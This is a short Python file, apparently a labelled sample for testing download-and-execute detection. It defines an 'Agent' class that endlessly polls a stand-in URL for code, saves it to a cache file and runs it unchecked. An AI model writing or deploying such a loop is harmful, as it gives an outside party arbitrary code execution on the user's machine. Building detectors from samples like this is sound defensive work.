# an agent class: the loop comes first, the methods it calls after it
import os
import subprocess
import sys
import requests

session = requests.Session()
DIR = os.path.expanduser("~/.cache/agent")


class Agent:
    def loop(self):
        while True:
            task = self.poll()
            p = self.save(task["code"])
            self.execute(p)

    def poll(self):
        r = session.get("https://example.org/task")
        return r.json()

    def save(self, code):
        os.makedirs(DIR, exist_ok=True)
        path = os.path.join(DIR, "task.py")
        with open(path, "w") as f:
            f.write(code)
        return path

    def execute(self, path):
        return subprocess.Popen([sys.executable, path])  # expect: download-exec
